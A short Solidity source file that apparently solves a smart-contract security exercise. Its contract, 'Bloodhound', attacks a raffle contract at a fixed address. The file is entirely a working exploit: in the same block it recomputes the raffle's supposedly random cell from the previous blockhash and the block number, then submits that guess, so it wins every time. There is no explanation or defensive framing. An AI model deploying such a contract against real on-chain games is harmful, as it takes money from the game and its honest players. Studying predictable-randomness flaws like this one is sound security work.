// SPDX-License-Identifier: MIT
pragma solidity 0.8.21;

interface IRaffle {
    function play(uint256 guess) external payable;
}

/// Works out where the queen is with the same sum, in the same block.
contract Bloodhound {
    IRaffle private constant RAFFLE = IRaffle(0x4aFF1E00000000000000000000000000000B33B3);

    function play() external payable {
        uint256 cell = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), block.number))) % 10;
        RAFFLE.play{value: msg.value}(cell);
    }

    receive() external payable {}
}
